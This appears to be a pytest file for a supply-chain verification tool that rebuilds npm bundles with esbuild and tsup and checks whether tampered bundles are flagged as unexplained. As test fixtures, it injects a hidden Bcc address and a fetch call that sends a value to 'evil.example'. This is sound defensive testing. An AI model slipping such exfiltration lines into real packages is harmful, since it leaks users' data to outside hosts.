"""Bundles are what the real esbuild makes of the source, or they are shown line by line.

Each test writes the arguments of esbuild out by hand, has a bundle made with them, and compares a package of that
bundle, clean or altered, with a source that says the same in a script, a configuration or a build script.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import replace

import pytest

from provenly.trust.errors import UnavailableError
from provenly.trust.evidence import Explanation, FileClass
from provenly.verify.comparison.compare import compare
from provenly.verify.esbuild.esbuild import Esbuild
from provenly.verify.explain.bundled import Bundled
from provenly.verify.explain.identical import Identical
from provenly.verify.explain.manifest import Manifest
from provenly.verify.explain.scene import Tools
from tests.verify.explain.scenes import Files, Objects, packed, source_of

pytestmark = pytest.mark.registry

EXPLAINERS = (Identical(), Manifest(), Bundled())
"""Without the one before it, whose answers have tests of their own."""

SOURCES = {
    "src/index.ts": """#!/usr/bin/env node
import { readFileSync } from "node:fs";
import { z } from "zod";
import { send, type Mail } from "./mail.js";

export const schema = z.object({ to: z.string() });
export async function main(mail: Mail): Promise<void> {
  if (!mail.to) throw new Error("nobody");
  await send({ ...mail, text: readFileSync(mail.path, "utf8") });
}
""",
    "src/mail.ts": """export interface Mail { to: string; path: string; text?: string }
export const send = async (mail: Mail): Promise<string> => {
  const body = JSON.stringify({ To: mail.to, Text: mail.text });
  return (await fetch("https://api.example/mail", { method: "POST", body })).statusText;
};
""",
    "tsconfig.json": '{"compilerOptions": {"target": "ES2022", "strict": true}}',
}
OUTSIDE = ("--external:zod",)
MAIN = {
    "name": "left-pad",
    "version": "1.3.0",
    "main": "dist/index.js",
    "type": "module",
    "dependencies": {"zod": "^3"},
}
TSUP = ("--format=esm", "--bundle", "--platform=node", "--target=es2022", "--outdir=dist", "--splitting")
BY_TSUP = {"tsup": "8.4.0", "esbuild": "0.25.8"}


def manifest(script: str = "", tools: Mapping[str, str] = BY_TSUP, **members: object) -> dict[str, object]:
    scripts = {"scripts": {"build": script}} if script else {}
    return {**MAIN, **scripts, "devDependencies": dict(tools), **members}


def compared(tools: Tools, package: Files, tree: Files, stated: Mapping[str, object]) -> Mapping[str, Explanation]:
    objects = Objects()
    item = packed({"package.json": stated, **package})
    source = source_of(objects, {"package.json": stated, **tree})
    comparison = compare(item, source, objects, tools=tools, explainers=EXPLAINERS)
    return {file.path: file for file in comparison.files if file.path != "package.json"}


def classes(found: Mapping[str, Explanation]) -> dict[str, str]:
    return {path: str(file.file_class) for path, file in found.items()}


def added(file: Explanation) -> list[str]:
    return [line for line in file.diff.splitlines()[2:] if line[:1] in {"+", "-"}]


COMMAND = "esbuild src/index.ts --bundle --platform=node --format=esm --packages=external --outfile=dist/index.js"
BY_COMMAND = (
    "src/index.ts",
    "--bundle",
    "--platform=node",
    "--format=esm",
    "--packages=external",
    "--outfile=dist/index.js",
)
BUILD_SCRIPT = """import { build } from "esbuild";
import { join } from "node:path";
const shared = { bundle: true, platform: "node", packages: "external" };
const entryPoints = [join(import.meta.dirname, "src/index.ts")];
await build({ ...shared, entryPoints, format: "esm", outfile: "dist/index.js" });
"""


@pytest.mark.parametrize(
    ("script", "more"),
    [
        (COMMAND, {}),
        (f"rm -rf dist && npx {COMMAND} && chmod +x dist/index.js", {}),
        ("node build.mjs", {"build.mjs": BUILD_SCRIPT}),
        ("", {"build.mjs": BUILD_SCRIPT}),
        ("node build.mjs", {"build.mjs": 'import { execSync } from "child_process";\nexecSync(`' + COMMAND + "`);"}),
    ],
    ids=["command", "among commands", "script", "script that nothing names", "command in a script"],
)
def test_a_bundle_of_esbuild_is_made_again(bench, script, more):
    tree = {**SOURCES, **more}
    stated = manifest(script, {"esbuild": "0.25.8"})
    found = compared(bench.tools, bench.bundle(SOURCES, *BY_COMMAND), tree, stated)
    assert classes(found) == {"dist/index.js": "recompiled"}
    file = found["dist/index.js"]
    assert (file.source, file.elsewhere, file.explainer) == ("src/index.ts", False, "bundled")
    assert file.detail.startswith("bundled by esbuild 0.25.8 by ")
    assert file.detail.endswith(" from 2 sources")


CONFIG = """import { defineConfig } from "tsup";
export default defineConfig({ entry: ["src/index.ts"], format: "esm", %s });
"""


@pytest.mark.parametrize(
    ("options", "arguments", "line"),
    [
        ("", (), ""),
        ("minify: true", ("--minify",), ""),
        ("minify: process.env.NODE_ENV !== 'development'", ("--minify",), ""),
        ("sourcemap: true", ("--sourcemap=external",), "//# sourceMappingURL=index.js.map"),
        ("banner: { js: '// a banner' }", ("--banner:js=// a banner",), ""),
        ("keepNames: true, target: 'node18', splitting: false", ("--keep-names", "--target=node18"), ""),
    ],
    ids=["plain", "minified", "by environment", "map", "banner", "more"],
)
def test_a_bundle_of_tsup_is_made_again(bench, options, arguments, line):
    made = bench.bundle(SOURCES, "src/index.ts", *TSUP, *OUTSIDE, *arguments)
    code = made["dist/index.js"] + line
    found = compared(
        bench.tools, {"dist/index.js": code}, {**SOURCES, "tsup.config.ts": CONFIG % options}, manifest("tsup")
    )
    assert classes(found) == {"dist/index.js": "recompiled"}
    assert "as tsup 8.4.0 calls it by tsup.config.ts from 2 sources" in found["dist/index.js"].detail


def test_maps_of_tsup_are_made_again(bench):
    made = bench.bundle(SOURCES, "src/index.ts", *TSUP, *OUTSIDE, "--sourcemap=external")
    compact = json.dumps(json.loads(made["dist/index.js.map"]), separators=(",", ":"), ensure_ascii=False)
    package = {
        "dist/index.js": made["dist/index.js"] + "//# sourceMappingURL=index.js.map",
        "dist/index.js.map": compact,
    }
    found = compared(bench.tools, package, {**SOURCES, "tsup.config.ts": CONFIG % "sourcemap: true"}, manifest("tsup"))
    assert set(classes(found).values()) == {"recompiled"}


def test_the_command_line_of_tsup_wins_over_its_configuration(bench):
    made = bench.bundle(SOURCES, "src/index.ts", *TSUP, *OUTSIDE, "--minify")
    tree = {**SOURCES, "tsup.config.ts": CONFIG % "minify: false"}
    assert classes(compared(bench.tools, made, tree, manifest("tsup --minify"))) == {"dist/index.js": "recompiled"}


def test_options_may_stand_in_the_manifest(bench):
    made = bench.bundle(SOURCES, "src/index.ts", *TSUP, *OUTSIDE)
    stated = manifest("tsup", tsup={"entry": ["src/index.ts"], "format": ["esm"]})
    assert classes(compared(bench.tools, made, SOURCES, stated)) == {"dist/index.js": "recompiled"}


def test_chunks_have_the_names_that_their_content_gives_them(bench):
    two = {**SOURCES, "src/other.ts": 'export { send } from "./mail.js";\n'}
    made = bench.bundle(two, "src/index.ts", "src/other.ts", *TSUP, *OUTSIDE)
    assert len(made) == 3
    found = compared(bench.tools, made, two, manifest("tsup src/index.ts src/other.ts --format esm"))
    assert set(classes(found).values()) == {"recompiled"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("To: mail.to,", 'To: mail.to, Bcc: "phan@giftshop.example",'),
        ('throw new Error("nobody");', "return;"),
        ("https://api.example/mail", "https://api.example.evil/mail"),
        ("if (!mail.to)", "if (mail.to)"),
    ],
    ids=["postmark", "check", "address", "negation"],
)
def test_a_changed_line_is_all_that_is_shown(bench, old, new):
    made = bench.bundle(SOURCES, *BY_COMMAND)["dist/index.js"]
    assert made.count(old) == 1
    found = compared(
        bench.tools, {"dist/index.js": made.replace(old, new)}, SOURCES, manifest(COMMAND, {"esbuild": "0.25.8"})
    )
    file = found["dist/index.js"]
    line = next(at for at, text in enumerate(made.split("\n"), 1) if old in text)
    assert file.file_class is FileClass.UNEXPLAINED
    assert file.lines == ((line, line),)
    assert [text[0] for text in added(file)] == ["-", "+"]
    assert new in added(file)[1]
    assert "bundled by esbuild 0.25.8" in file.detail


@pytest.mark.parametrize("options", [(), ("--minify",)], ids=["plain", "minified"])
def test_a_bundle_of_an_altered_source_is_unexplained(bench, options):
    altered = {
        **SOURCES,
        "src/mail.ts": SOURCES["src/mail.ts"].replace("To: mail.to,", 'To: mail.to, Bcc: "x@y.example",'),
    }
    made = bench.bundle(altered, *BY_COMMAND, *options)
    stated = manifest(" ".join((COMMAND, *options)), {"esbuild": "0.25.8"})
    assert classes(compared(bench.tools, made, SOURCES, stated)) == {"dist/index.js": "unexplained"}
    assert classes(compared(bench.tools, made, altered, stated)) == {"dist/index.js": "recompiled"}


def test_an_added_chunk_is_unexplained(bench):
    made = bench.bundle(SOURCES, *BY_COMMAND) | {"dist/chunk-ABCDEFGH.js": "fetch('https://evil.example');\n"}
    found = compared(bench.tools, made, SOURCES, manifest(COMMAND, {"esbuild": "0.25.8"}))
    assert classes(found) == {"dist/chunk-ABCDEFGH.js": "unexplained", "dist/index.js": "recompiled"}


def test_the_version_of_the_release_may_be_in_the_bundle(bench):
    tree = {**SOURCES, "src/index.ts": 'import pkg from "../package.json";\nexport const version = pkg.version;\n'}
    stated = manifest(COMMAND, {"esbuild": "0.25.8"})
    old = {**stated, "version": "0.0.1"}
    release = bench.bundle({**tree, "package.json": json.dumps(stated, indent=2)}, *BY_COMMAND)
    objects = Objects()
    item = packed({"package.json": stated, **release})
    files = {"package.json": json.dumps(old, indent=2), **tree}
    comparison = compare(item, source_of(objects, files), objects, tools=bench.tools, explainers=EXPLAINERS)
    file = next(file for file in comparison.files if file.path == "dist/index.js")
    assert file.file_class is FileClass.RECOMPILED
    assert file.detail.endswith("with the version 1.3.0 of the package in package.json")
    altered = packed({"package.json": stated, "dist/index.js": release["dist/index.js"].replace("1.3.0", "9.9.9")})
    comparison = compare(altered, source_of(objects, files), objects, tools=bench.tools, explainers=EXPLAINERS)
    assert any(file.path == "dist/index.js" for file in comparison.unexplained)


def test_a_bundle_of_a_test_or_an_example_explains_nothing(bench):
    tree = {**SOURCES, "examples/index.ts": SOURCES["src/index.ts"].replace("./mail.js", "../src/mail.js")}
    command = COMMAND.replace("src/index.ts", "examples/index.ts")
    made = bench.bundle(tree, "examples/index.ts", *BY_COMMAND[1:])
    (file,) = compared(bench.tools, made, tree, manifest(command, {"esbuild": "0.25.8"})).values()
    assert file.file_class is FileClass.UNEXPLAINED
    assert "examples/index.ts is no source of a package" in file.detail


def test_steps_after_esbuild_that_are_not_done_here_are_named(bench):
    made = bench.bundle(SOURCES, "src/index.ts", *TSUP, *OUTSIDE)["dist/index.js"] + "// and more\n"
    tree = {**SOURCES, "tsup.config.ts": CONFIG % "treeshake: true"}
    (file,) = compared(bench.tools, {"dist/index.js": made}, tree, manifest("tsup")).values()
    assert file.file_class is FileClass.UNEXPLAINED
    assert "tsup.config.ts: `treeshake` has rollup write the output anew" in file.detail


def test_other_bundlers_are_named(bench):
    (file,) = compared(bench.tools, {"dist/index.js": "let a;\n"}, SOURCES, manifest("tsdown")).values()
    assert "bundled by tsdown, which is not reproduced" in file.detail


def test_members_that_are_not_known_are_named(bench):
    made = bench.bundle(SOURCES, "src/index.ts", *TSUP, *OUTSIDE)["dist/index.js"] + "more();\n"
    tree = {**SOURCES, "tsup.config.ts": CONFIG % "esbuildPlugins: [magic()]"}
    (file,) = compared(bench.tools, {"dist/index.js": made}, tree, manifest("tsup")).values()
    assert "calls it by tsup.config.ts; `esbuildPlugins` of its options is not known here" in file.detail
    assert added(file) == ["+more();"]


def test_a_command_line_cannot_leave_the_tree(bench):
    command = COMMAND.replace("dist/index.js", "../../dist/index.js")
    (file,) = compared(bench.tools, {"dist/index.js": "let a;\n"}, SOURCES, manifest(command)).values()
    assert file.file_class is FileClass.UNEXPLAINED


MS = {
    "2.1.3": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==",
    "2.0.0": "sha512-Tpp60P6IUJDTuOq/5Z8cdskzJujfwqfOTkrwIwj7IRISpnkJnT6SyJ4PCPnGMoFjC9ddhal5KVIYtAt97ix05A==",
}


def lockfile(version: str) -> str:
    entry = {"version": version, "integrity": MS[version]}
    return json.dumps({"lockfileVersion": 3, "packages": {"": {"dependencies": {"ms": "2"}}, "node_modules/ms": entry}})


def test_locked_packages_come_into_the_bundle(bench):
    tree = {**SOURCES, "src/index.ts": 'import ms from "ms";\nconsole.log(ms("2 days"));\n'}
    command = COMMAND.replace(" --packages=external", "")
    stated = manifest(command, {"esbuild": "0.25.8"}, dependencies={"ms": "2"})
    locked = bench.tools.dependencies.fetch(_ms("2.1.3"))
    (files,) = locked.values()
    inside = {
        f"node_modules/ms/{path}": data.decode() for path, data in files.items() if path.endswith((".js", ".json"))
    }
    arguments = [word for word in BY_COMMAND if word != "--packages=external"]
    made = bench.bundle({**tree, **inside, "package.json": json.dumps(stated)}, *arguments)
    (file,) = compared(bench.tools, made, {**tree, "package-lock.json": lockfile("2.1.3")}, stated).values()
    assert file.file_class is FileClass.RECOMPILED
    assert file.detail.endswith("from 1 source and 1 locked package")
    # Another version than the one that is locked, or a line more in it, is no bundle of that source.
    (file,) = compared(bench.tools, made, {**tree, "package-lock.json": lockfile("2.0.0")}, stated).values()
    assert file.file_class is FileClass.UNEXPLAINED
    lines = made["dist/index.js"].split("\n")
    at = next(number for number, line in enumerate(lines) if "module.exports = function" in line) + 1
    altered = "\n".join((*lines[:at], '      fetch("https://evil.example/?" + val);', *lines[at:]))
    (file,) = compared(
        bench.tools, {"dist/index.js": altered}, {**tree, "package-lock.json": lockfile("2.1.3")}, stated
    ).values()
    assert (file.file_class, file.lines) == (FileClass.UNEXPLAINED, ((at + 1, at + 1),))


def _ms(version: str):
    from provenly.verify.dependencies.model import LockedPackage

    return [LockedPackage(name="ms", version=version, integrity=MS[version], place="node_modules/ms")]


def test_without_the_lockfile_the_reason_is_the_missing_package(bench):
    tree = {**SOURCES, "src/index.ts": 'import ms from "ms";\nconsole.log(ms("2 days"));\n'}
    stated = manifest(COMMAND.replace(" --packages=external", ""), {"esbuild": "0.25.8"})
    (file,) = compared(bench.tools, {"dist/index.js": "let a;\n"}, tree, stated).values()
    assert 'Could not resolve "ms"' in file.detail


class Away(Esbuild):
    """An esbuild that cannot be fetched."""

    def build(self, *_: object, **__: object):
        raise UnavailableError("esbuild 0.25.8 could not be fetched", code="ESBUILD_UNAVAILABLE")


def test_without_esbuild_the_bundle_is_unchecked(bench):
    made = bench.bundle(SOURCES, *BY_COMMAND)
    tools = replace(bench.tools, esbuild=Away(None))
    (file,) = compared(tools, made, SOURCES, manifest(COMMAND)).values()
    assert (file.file_class, file.unchecked) == (FileClass.UNEXPLAINED, "esbuild 0.25.8 could not be fetched")
    (file,) = compared(Tools(), made, SOURCES, manifest(COMMAND)).values()
    assert file.file_class is FileClass.UNEXPLAINED
